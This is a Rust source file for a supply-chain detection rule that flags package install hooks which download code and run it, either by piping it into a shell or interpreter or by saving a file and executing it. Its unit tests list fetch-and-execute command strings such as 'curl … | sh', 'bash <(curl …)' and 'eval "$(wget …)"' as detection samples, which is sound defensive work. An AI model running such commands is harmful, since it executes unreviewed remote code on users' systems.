use apa_model::{Confidence, Event, EventKind, Hostile, Process, Severity};

use super::{Hit, Rule, RuleInfo};
use crate::programs;
use crate::view::{Execution, View, Writer, network};

pub(crate) struct HookDownloadsAndExecutes;

static INFO: RuleInfo = RuleInfo {
    id: "hook-downloads-and-executes",
    title: "Downloaded code was executed",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1105", "T1059.004"],
    explanation: "Package code pipes or substitutes a download into an interpreter (seen in the processes of the pipeline and in the \
                  shell's command), or downloads a file by itself and runs it. A download into the package's own folder \
                  that is then run is less sure: some packages fetch their native program.",
};

impl Rule for HookDownloadsAndExecutes {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, view: &View<'_>) -> Vec<Hit> {
        let mut hits: Vec<Hit> = view
            .acts()
            .iter()
            .filter_map(|event| piped(view, event))
            .collect();
        hits.extend(
            view.executions()
                .iter()
                .filter_map(|run| downloaded(view, run)),
        );
        hits
    }
}

/// A downloader whose sibling is an interpreter that reads from a pipe, or whose shell's text says so.
fn piped(view: &View<'_>, event: &Event) -> Option<Hit> {
    let EventKind::Exec { exe, argv, .. } = &event.kind else {
        return None;
    };
    if !programs::is_downloader(&exe.lossy()) {
        return None;
    }
    let downloader = view.process(event.process)?;
    let parent = downloader.parent.and_then(|id| view.process(id));
    let reader = parent.and_then(|parent| piped_interpreter(view, parent, downloader));
    let text = view
        .lineage(event.process)
        .take(4)
        .find_map(|process| command_text(process).filter(|text| feeds_interpreter(text)));
    let by = match (&reader, &text) {
        (Some(reader), _) => base(&reader.exe),
        (None, Some(_)) => "a shell".to_owned(),
        (None, None) => return None,
    };
    let from = argv
        .iter()
        .skip(1)
        .map(Hostile::lossy)
        .find(|word| word.contains("://"))
        .map(|url| format!(" from {}", Hostile::from(url.as_ref()).shortened(120)))
        .unwrap_or_default();
    let program = base(exe);
    let when = view.when(event.phase, Some(event.process));
    let clause = format!("downloads code{from} with {program} and has {by} execute it {when}");
    let mut hit = Hit::new(&INFO, &event.owner, event.phase, clause).event(
        view,
        event,
        format!("{program} executed"),
    );
    if let Some(started) = reader.and_then(|reader| last_exec(view, reader)) {
        hit = hit.event(view, started, format!("{by} reads from the pipeline"));
    }
    if let Some(text) = text {
        let shell = parent
            .and_then(|parent| last_exec(view, parent))
            .unwrap_or(event);
        hit = hit.event(
            view,
            shell,
            format!("command: {}", Hostile::from(text).shortened(200)),
        );
    }
    for sent in view.flows() {
        if sent.flow.process == Some(event.process) {
            hit = hit.flow(view, sent.flow);
        }
    }
    Some(hit)
}

fn base(exe: &Hostile) -> String {
    Hostile::from(programs::base_name(&exe.lossy())).to_string()
}

/// An interpreter beside the downloader that is fed by a pipe and has no script of its own.
fn piped_interpreter<'a>(
    view: &View<'a>,
    parent: &Process,
    downloader: &Process,
) -> Option<&'a Process> {
    view.children(parent.id)
        .iter()
        .filter(|id| **id != downloader.id)
        .filter_map(|id| view.process(*id))
        .find(|process| {
            programs::is_interpreter(&process.exe.lossy())
                && reads_standard_input(&process.argv)
                && view.acts_of(process.id).iter().any(|act| match &act.kind {
                    EventKind::Dup { to: 0, target, .. } => target == "pipe",
                    _ => false,
                })
        })
}

/// No script and no command among the arguments.
fn reads_standard_input(argv: &[Hostile]) -> bool {
    let arguments: Vec<_> = argv.iter().skip(1).map(Hostile::lossy).collect();
    match arguments.first().map(AsRef::as_ref) {
        None | Some("-" | "-s" | "-i") => true,
        Some(first) if first.starts_with("/dev/fd/") || first == "/dev/stdin" => true,
        _ => arguments
            .iter()
            .all(|argument| argument.starts_with('-') && !is_command_option(argument)),
    }
}

fn is_command_option(argument: &str) -> bool {
    matches!(
        argument,
        "-c" | "-e" | "-p" | "-m" | "--eval" | "--print" | "-lc" | "-ec"
    )
}

/// The text a shell was given with `-c`.
fn command_text(process: &Process) -> Option<String> {
    if !programs::is_shell(&process.exe.lossy()) {
        return None;
    }
    let at = process.argv.iter().position(|argument| {
        let argument = argument.lossy();
        argument.starts_with('-') && !argument.starts_with("--") && argument.ends_with('c')
    })?;
    process
        .argv
        .get(at + 1)
        .map(|text| text.lossy().into_owned())
}

/// `curl … | sh`, `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(wget …)"`.
fn feeds_interpreter(text: &str) -> bool {
    let mut stages = text.split('|').map(str::trim_start);
    let mut downloads = stages.next().is_some_and(names_downloader);
    for stage in stages {
        if downloads && starts_interpreter(stage) {
            return true;
        }
        downloads = downloads || names_downloader(stage);
    }
    let substituted = ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"];
    substituted.iter().any(|form| {
        text.split(form).next().is_some_and(|before| {
            before.len() < text.len() && words(before).iter().any(|word| is_runner(word))
        })
    })
}

fn words(text: &str) -> Vec<&str> {
    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | '"' | '\''))
        .filter(|word| !word.is_empty())
        .collect()
}

fn names_downloader(text: &str) -> bool {
    words(text).iter().any(|word| programs::is_downloader(word))
}

fn is_runner(word: &str) -> bool {
    programs::is_interpreter(word) || matches!(word, "eval" | "source" | "exec" | ".")
}

/// The stage begins with an interpreter that is given nothing else to run.
fn starts_interpreter(stage: &str) -> bool {
    let stage = stage.split([';', '&']).next().unwrap_or_default();
    let mut rest = words(stage);
    while matches!(rest.first(), Some(&"sudo" | &"env" | &"nohup" | &"exec")) {
        rest.remove(0);
    }
    let argv: Vec<Hostile> = rest
        .iter()
        .take_while(|word| !word.starts_with('>') && !word.starts_with("2>"))
        .map(|word| Hostile::from(*word))
        .collect();
    argv.first()
        .is_some_and(|first| programs::is_interpreter(&first.lossy()))
        && reads_standard_input(&argv)
}

/// A download, then a file written by the same tree, then its execution.
fn downloaded(view: &View<'_>, run: &Execution<'_>) -> Option<Hit> {
    let write = run.origin.event?;
    if run.origin.writer != Writer::Package {
        return None;
    }
    let tree = view.tree_of(write.process);
    let source = view.flows_of_tree(tree).find(|sent| {
        network::downloads(sent.flow)
            && sent.flow.started_us <= run.event.at_us
            && sent
                .flow
                .ended_us
                .is_none_or(|ended| ended + 1_000_000 >= write.at_us)
    })?;
    let path = view.short(&run.path);
    let when = view.when(run.event.phase, Some(run.event.process));
    let peer = view.peer(source.flow);
    let clause = format!("downloads from {peer}, writes {path} and runs it {when}");
    let mut hit = Hit::new(&INFO, &run.event.owner, run.event.phase, clause);
    if view.is_own(&run.path) {
        hit = hit.graded(Severity::High, Confidence::Medium);
    }
    Some(
        hit.flow(view, source.flow)
            .event(view, write, format!("{path} written"))
            .event(view, run.event, format!("{path} executed"))
            .kept_file(view, &run.path),
    )
}

fn last_exec<'a>(view: &View<'a>, process: &Process) -> Option<&'a Event> {
    view.acts_of(process.id)
        .iter()
        .rfind(|act| matches!(act.kind, EventKind::Exec { .. }))
        .copied()
}

#[cfg(test)]
mod tests {
    use apa_model::Confidence;

    use super::*;
    use crate::testing::Scene;

    #[test]
    fn a_pipeline_is_recognised_by_its_processes() {
        let mut scene = Scene::pypi("left-pad");
        let setup = scene.package("/usr/bin/python3", &["python3", "setup.py", "install"]);
        let curl = scene.child(
            setup,
            "/usr/bin/curl",
            &["curl", "-s", "https://get.test/i"],
        );
        scene.at(curl).http("GET https://get.test/i", 0);
        let shell = scene.fork(setup);
        scene
            .at(shell)
            .dup(5, 0, "pipe")
            .exec("/usr/bin/sh", &["sh"]);
        let finding = scene.finding("hook-downloads-and-executes");
        assert_eq!(
            finding.explanation.to_string(),
            "Downloads code from https://get.test/i with curl and has sh execute it in its setup.py."
        );
        assert_eq!(finding.evidence.len(), 3);
    }

    #[test]
    fn texts_that_feed_an_interpreter_are_told_from_those_that_do_not() {
        for text in [
            "curl -s https://get.test/i | sh",
            "wget -qO- https://get.test/i | sudo bash -s -- -y",
            "curl https://get.test/i | base64 -d | python3 -",
            "sh -c \"$(curl -fsSL https://get.test/i)\"",
            "bash <(curl -s https://get.test/i)",
            "eval \"$(wget -qO- https://get.test/i)\"",
        ] {
            assert!(feeds_interpreter(text), "{text}");
        }
        for text in [
            "curl https://get.test/data.json | python3 -m json.tool",
            "curl -o x https://get.test/i; sh build.sh",
            "curl https://get.test/i | tar xz",
            "VERSION=$(curl https://get.test/version)",
            "cat x | sh",
        ] {
            assert!(!feeds_interpreter(text), "{text}");
        }
    }

    #[test]
    fn a_downloaded_file_that_is_run_is_found() {
        let mut scene = Scene::npm("left-pad");
        let hook = scene.package("/usr/bin/node", &["node"]);
        scene
            .at(hook)
            .http("GET https://get.test/i", 0)
            .write("/tmp/i");
        scene.child(hook, "/tmp/i", &["/tmp/i"]);
        let finding = scene.finding("hook-downloads-and-executes");
        assert_eq!(finding.confidence, Confidence::High);
    }

    #[test]
    fn a_mere_download_is_left_alone() {
        let mut scene = Scene::npm("left-pad");
        let shell = scene.package("/usr/bin/sh", &["sh", "-c", "curl -o x https://get.test/x"]);
        let curl = scene.child(shell, "/usr/bin/curl", &["curl", "-o", "x"]);
        scene
            .at(curl)
            .http("GET https://get.test/x", 0)
            .write("/tmp/x");
        scene.child(shell, "/usr/bin/sh", &["sh", "build.sh"]);
        assert!(scene.findings("hook-downloads-and-executes").is_empty());
    }
}
